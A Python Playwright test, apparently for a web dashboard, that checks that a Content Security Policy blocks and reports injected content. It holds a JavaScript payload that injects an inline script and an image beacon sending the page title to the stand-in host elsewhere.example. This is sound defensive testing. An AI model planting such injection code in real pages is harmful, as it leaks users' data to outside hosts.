"""A real browser tells the house what it kept out of a page, and the technician reads it."""

from __future__ import annotations

from pathlib import Path

import pytest
from held_to_axe import wrong_on
from patience import wait_until
from playwright.sync_api import Browser, expect
from running_studio import House
from sealed_search import sign_up
from served_house import Served

from dealer_ui.access.violation import BrokenPolicy

pytestmark = [pytest.mark.browser, pytest.mark.long]
PUT_IN = """() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "taken over"';
    document.body.append(script);
    const picture = new Image();
    picture.src = 'https://elsewhere.example/seen.png?what=' + encodeURIComponent(document.title);
    document.body.append(picture);
}"""


def test_what_somebody_puts_into_a_page_is_kept_out_and_told(tmp_path: Path, chromium: Browser) -> None:
    with House(tmp_path) as house:
        sign_up(house)
        served = Served(house, chromium)
        page = served.page("technician")
        page.goto(f"{served.address}/devices")
        expect(page.locator("text=No browser has reported")).to_be_visible()
        page.evaluate(PUT_IN)
        console = house.studio.app.extensions["console"]
        wait_until(lambda: len(console.violations.counted) == 2)
        assert {one for one, _ in console.violations.counted} == {
            BrokenPolicy("/devices", "script-src-elem", "inline"), BrokenPolicy("/devices", "img-src", "elsewhere"),
        }  # fmt: skip
        assert page.title() != "taken over"
        page.reload()
        expect(page.locator(".violations tbody tr")).to_have_count(2)
        assert "elsewhere.example" not in page.content()
        assert wrong_on(page) == []
        served.close()
